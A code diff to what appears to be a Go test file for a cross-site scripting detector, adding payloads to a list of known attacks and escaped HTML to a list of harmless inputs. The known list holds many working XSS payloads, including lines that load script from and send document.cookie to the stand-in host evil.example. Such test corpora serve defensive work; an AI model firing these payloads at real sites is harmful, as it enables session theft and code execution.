@@ -103,6 +103,7 @@ var known = []string{
 	`<button popovertarget=x>y</button><p onbeforetoggle=alert(1) popover id=x>z`, `<style>@keyframes x{}</style><p style="animation-name:x" onanimationend="alert(1)">`, `<video><source onerror="alert(1)">`, `<isindex type=image src=1 onerror=alert(1)>`,
 	`<svg><discard onbegin=alert(1)>`, `<svg><use href="data:image/svg+xml,<svg id='x'><image href='1' onerror='alert(1)'/></svg>#x"/>`, `<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">alert(1)</handler></svg>`,
 	`<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">`, `<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">`, `<noembed><img title="</noembed><img src onerror=alert(1)>"></noembed>`,
+	`<svg><style>&lt;img src=x onerror=alert(1)// </b>`, `<listing>&lt;img onerror=alert(1) src=x&gt;</listing>`, `<a id=x><a id=x name=y href="cid:&quot;onerror=alert(1)//">`,
 	"jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert() )//%0D%0A//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert()//>\\x3e", `'">><marquee><img src=x onerror=confirm(1)></marquee>" ></plaintext\></|\><plaintext/onmouseover=prompt(1) >`,
 	"[1].find(alert)", "top[/al/.source+/ert/.source](1)", `al\u0065rt(1)`, "alert?.()", "`${alert``}`", "Set.constructor`alert\\x281\\x29```", "setTimeout`alert\\u0028x\\u0029`", "throw onerror=alert,1", "{onerror=eval}throw{lineNumber:1,message:'alert\\x281\\x29'}",
 	`location='javascript:alert\x281\x29'`, "Reflect.apply.call`${alert}${window}${[1337]}`", "[].sort.call`${alert}1337`", "import('//evil.example/x.js')", "fetch('//evil.example/?c='+document.cookie)", "String.fromCharCode(88,83,83)", "eval(location.hash.slice(1))",
@@ -138,6 +139,7 @@ var harmless = []string{
 	"[a](data:image/png;base64,iVBORw0KGgo=)", "[1]: JavaScript: The Good Parts (book)", "[a]: https://example.org/ \"x\"", " online = true", "  once = upon a time (x)", "@import \"base\";", "<a@b.example> (c)", "<https://example.org/?onload=1&x=(a)>", "Anna \"A\" Lopez <a@b.example>",
 	"\"> quoted mail (reply)", "> \"quoted\" (mail)", "--> next (a)", "</div>\n<p>rest (a)", "!!(a) + !!(b)", "#{user.name} (x)", "price & {tax} (x)", "order #{id} of &{x} (y)", "foo(/* x */ a, /* y */ b)", "1..10 (range)", "192.168.1.1:(80)", "a+b=c (d)", "+ADwords (x)", "width=\"100\"> (a)",
 	`<form action="/s" method="get"><input name="location"></form>`, `<a name="location"></a><h2 id="implementation">x</h2><h3 id="innerHTML">y</h3>`, `<td data-value="f(x) = 1">a</td>`, `<a href="https://video.example/watch?v=`, `<img src="/a.png" alt="alert(1) in a box"`,
+	`<pre><code>&lt;img src=x onerror=alert(1)&gt;</code></pre>`, `<a href="/a?b='c'&amp;d=(e)" title='"f"'>g</a>`, `<textarea>&lt;script&gt;x()&lt;/script&gt;</textarea>`,
 	`<meta http-equiv="Content-Type" content="text/html; charset=utf-8"><meta name=Generator content="Microsoft Word 15"><link rel=File-List href="file:///C:/x/filelist.xml">`, `<p class="MsoNormal" style="mso-bidi-font-size:12.0pt">a (b)<o:p></o:p></p>`,
 }
 
